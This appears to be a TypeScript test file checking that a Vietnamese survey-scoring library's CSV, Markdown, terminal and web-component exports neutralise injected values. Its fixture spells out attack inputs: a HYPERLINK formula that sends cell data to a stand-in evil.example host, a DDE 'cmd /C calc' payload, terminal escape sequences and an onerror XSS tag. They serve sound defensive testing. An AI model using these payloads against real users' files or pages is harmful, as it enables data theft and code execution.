import { expect, fixture, html } from '@open-wc/testing';
import '../../src/define-report.js';
import type { SipasReport } from '../../src/components/sipas-report.js';
import { sipas2017 } from '../../src/definitions/sipas-2017.js';
import { reportStringsFor } from '../../src/i18n/report.js';
import { csvCell, markdownText, resultsToCsv, resultsToMarkdown, resultsToText, scoreResponses, terminalText } from '../../src/scoring/index.js';
import { until } from '../support/delivery.js';
import { response } from './support.js';

/** Context values as an attacker would type them into a portal's fields. */
const HOSTILE = {
  agencyName: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  procedureName: 'Cấp phép\n| injected | row |\n\u001b[2J\u001b]0;pwned\u0007<img src=x onerror=alert(1)>',
  field: '@SUM(1+1)*cmd|" /C calc"!A0',
};
const results = scoreResponses(
  [response({ 'c1.1': 5 }, { context: { agencyCode: '25.721', ...HOSTILE } })],
  [sipas2017],
  { by: ['agencyName', 'procedureName', 'field'] },
);
const strings = reportStringsFor('en');

/** The fields of an RFC 4180 text, row by row (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const field = /"((?:[^"]|"")*)"|([^,\r\n"]*)/y;
  for (let i = 0; i < text.length; ) {
    field.lastIndex = i;
    const match = field.exec(text)!;
    rows.at(-1)!.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : match[2]!);
    i = field.lastIndex;
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      i += 2;
      if (i < text.length) rows.push([]);
    } else if (i < text.length) throw new Error(`not RFC 4180 at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`);
  }
  return rows;
}

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const FORMULA_START = /^[=+\-@\t\r]/;

describe('scoring output: a value never acts as a formula, as markup or as a terminal command', () => {
  it('csvCell neutralises formula-leading text as OWASP recommends: a leading apostrophe, and quoted', () => {
    const cells = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=x"y'].map(csvCell);
    expect(cells).to.deep.equal([`"'=1+1"`, `"'+1"`, `"'-1"`, `"'@SUM(A1)"`, `"'\t=1"`, `"'\r=1"`, `"'=x""y"`]);
  });

  it('csvCell quotes separators (a comma, or the semicolon of Vietnamese spreadsheets), quotes and line breaks; leaves plain text and numbers alone', () => {
    expect(['a,b', 'a;=1', 'say "hi"', 'a\nb', 'Phường 1', ' =1'].map(csvCell)).to.deep.equal(['"a,b"', '"a;=1"', '"say ""hi"""', '"a\nb"', 'Phường 1', ' =1']);
    expect([csvCell(-3), csvCell(12.5), csvCell(true)]).to.deep.equal(['-3', '12.5', 'true']);
  });

  it('markdownText keeps a value on one line and escapes what Markdown would read as markup', () => {
    expect(markdownText('a | b\n| c |')).to.equal('a \\| b \\| c \\|');
    expect(markdownText('[x](javascript:alert(1)) ![t](http://t.example/p.png) <img src=x> *b* _i_ `c` ~s~ &amp; \\')).to.equal(
      '\\[x\\](javascript:alert(1)) !\\[t\\](http://t.example/p.png) \\<img src=x\\> \\*b\\* \\_i\\_ \\`c\\` \\~s\\~ \\&amp; \\\\',
    );
  });

  it('terminalText drops control characters (ESC, BEL, C1, bidirectional overrides) and keeps one line', () => {
    expect(terminalText('a\u001b[31mred\u001b[0m\u0007 \u009b2J\u202eevil\r\nnext\tcol')).to.equal('a[31mred[0m 2Jevil next col');
    expect(terminalText('Ủy ban nhân dân phường Mỹ Phước')).to.equal('Ủy ban nhân dân phường Mỹ Phước');
  });

  it('resultsToCsv: the cut values come back whole from a CSV reader, and no cell starts like a formula', () => {
    const rows = parseCsv(resultsToCsv(results, [sipas2017], strings));
    const header = rows[0]!;
    expect(header.slice(0, 5)).to.deep.equal(['questionnaire', 'version', 'agencyName', 'procedureName', 'field']);
    for (const row of rows.slice(1)) {
      expect(row).to.have.length(header.length);
      expect(row.filter((cell) => FORMULA_START.test(cell)), JSON.stringify(row)).to.deep.equal([]);
      expect(row.slice(2, 5)).to.deep.equal([`'${HOSTILE.agencyName}`, HOSTILE.procedureName, `'${HOSTILE.field}`]);
    }
  });

  it('resultsToMarkdown: every line is a heading, a table row or a note; nothing a value holds becomes markup', () => {
    const markdown = resultsToMarkdown(results, [sipas2017], strings);
    expect(markdown).to.not.match(CONTROL);
    const lines = markdown.split('\n');
    const heading = lines.find((line) => line.startsWith('## '))!;
    expect(heading).to.contain('\\<img src=x onerror=alert(1)\\>').and.contain('Cấp phép \\| injected \\| row \\|');
    // Each table row has exactly its four cells: an unescaped pipe in a value would add cells.
    const rows = lines.filter((line) => line.startsWith('|'));
    for (const row of rows) expect(row.split(/(?<!\\)\|/).length, row).to.equal(6);
    // After the header (the report's facts and the method, fixed text), only headings, table rows and blank lines.
    const body = lines.slice(lines.indexOf(heading));
    expect(body.filter((line) => line !== '' && !/^(#|\|)/.test(line))).to.deep.equal([]);
  });

  it('resultsToText: no control character reaches the terminal, and each value stays on its line', () => {
    const text = resultsToText(results, [sipas2017], strings);
    expect(text).to.not.match(CONTROL);
    expect(text).to.contain('Procedure: Cấp phép | injected | row | [2J]0;pwned<img');
  });

  it("<sipas-report>'s CSV button writes the same neutralised cells", async () => {
    const el = await fixture<SipasReport>(html`<sipas-report lang="en" .results=${JSON.parse(JSON.stringify(results))}></sipas-report>`);
    await until(() => el.currentResults !== undefined, 'the report computed its results');
    await el.updateComplete;
    let download: Promise<string> | undefined;
    const original = HTMLAnchorElement.prototype.click;
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      // Read at once, as a browser's download would, before the element revokes the URL.
      download = fetch(this.href).then((reply) => reply.text());
    };
    try {
      el.shadowRoot!.querySelector<HTMLButtonElement>('.export-csv')!.click();
    } finally {
      HTMLAnchorElement.prototype.click = original;
    }
    const text = (await download!).replace(/^\uFEFF/, '');
    expect(text).to.equal(resultsToCsv(results, [sipas2017], strings));
    expect(parseCsv(text)[1]!.slice(2, 5)).to.deep.equal([`'${HOSTILE.agencyName}`, HOSTILE.procedureName, `'${HOSTILE.field}`]);
  });
});
